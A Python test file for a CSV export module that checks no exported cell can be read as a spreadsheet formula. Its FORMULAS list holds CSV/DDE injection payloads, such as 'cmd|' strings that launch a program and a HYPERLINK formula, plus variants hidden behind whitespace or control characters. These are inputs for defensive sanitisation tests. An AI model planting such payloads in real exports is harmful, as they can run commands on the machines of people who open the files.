"""Rows that no spreadsheet takes for formulas, and that every reader of CSV reads back."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from py_export.csvtext import MOST, number, row, text
from py_export.notices import Notices
from tests.unit.writers.hostile import HOSTILE

SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"
FORMULAS = [
    *(f"{sign}1" for sign in SIGNS),
    '=HYPERLINK("https://example.org/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\x1f=1+1",
    '"=1+1"',
    '""=1+1',
    "harmless;=1+1",
    'harmless;"=1+1"',
    "harmless; =1+1",
    "harmless\t=1+1",
    "harmless\n=1+1",
    "harmless\r-1",
    "harmless\u2028=1+1",
    'harmless","=1+1',
    "harmless\r\n=1+1,=1+1",
]  # fmt: skip
SEPARATORS = (",", ";", "\t")


def _cells(line: str, separator: str) -> list[str]:
    """Return what a program with this separator may take for cells, whatever it thinks of quotes and line breaks."""
    read = [cell for cells in csv.reader(io.StringIO(line, newline=""), delimiter=separator) for cell in cells]
    naive = re.split(f"[{separator}\r\n]", line) if separator != "," else []
    return [cell.strip(' "\t\r\n\u00a0\u3000\u200b\ufeff\x00\x1f') for cell in (*read, *naive)]


@pytest.mark.parametrize("separator", SEPARATORS)
@pytest.mark.parametrize("said", [*FORMULAS, *HOSTILE])
def test_no_cell_begins_as_a_formula_whichever_separator_a_program_expects(said: str, separator: str) -> None:
    line = row(("harmless", said, -1, f"harmless {said}"), Notices())
    begun = [cell for cell in _cells(line, separator) if cell[:1] and cell[0] in SIGNS]
    assert [cell for cell in begun if not re.fullmatch(r"-1(,.*)?", cell, re.DOTALL)] == []


@given(st.text(), st.sampled_from(SEPARATORS))
def test_no_text_becomes_a_formula(said: str, separator: str) -> None:
    line = row((said, said), Notices())
    assert not [cell for cell in _cells(line, separator) if cell[:1] and cell[0] in SIGNS]


@given(st.lists(st.text(alphabet=st.characters(exclude_characters="\x00")), min_size=1))
def test_a_row_is_one_record_and_its_texts_come_back_but_for_the_apostrophes(cells: list[str]) -> None:
    line = row(cells, Notices())
    assert line.endswith("\r\n")
    [found] = csv.reader(io.StringIO(line, newline=""), strict=True)
    assert found == [text(cell) for cell in cells]
    assert [cell.replace("'", "") for cell in found] == [cell.replace("'", "") for cell in cells]


@pytest.mark.parametrize("said", ["plain", "a-b", "a = b", "3 + 4", "me@example.org", "it's", "说好的", "x;y", "a\nb"])
def test_a_harmless_text_is_left_as_it_is(said: str) -> None:
    assert text(said) == said


@given(st.floats(allow_nan=False, allow_infinity=False) | st.integers())
def test_a_number_keeps_every_digit_and_has_no_exponent(value: float) -> None:
    printed = number(value)
    assert re.fullmatch(r"-?\d+(\.\d+)?", printed)
    assert type(value)(printed) == value


def test_a_negative_number_stays_a_number_and_a_text_like_it_does_not() -> None:
    assert row((-5, -0.5, "-5"), Notices()) == "-5,-0.5,'-5\r\n"


def test_unknown_is_empty_and_nought_is_nought() -> None:
    assert row((None, 0, 0.0, "", False), Notices()) == ",0,0.0,,false\r\n"


def test_a_text_that_no_cell_holds_is_shortened_and_noticed() -> None:
    notices = Notices()
    [[cell]] = csv.reader(io.StringIO(row(("x" * (MOST + 1),), notices, "messages[3]"), newline=""))
    assert (len(cell), cell[-2:]) == (MOST, "x\u2026")
    assert [(one.code, one.where) for one in notices] == [("cell_shortened", "messages[3]")]
    assert row(("x" * MOST,), Notices()) == "x" * MOST + "\r\n"
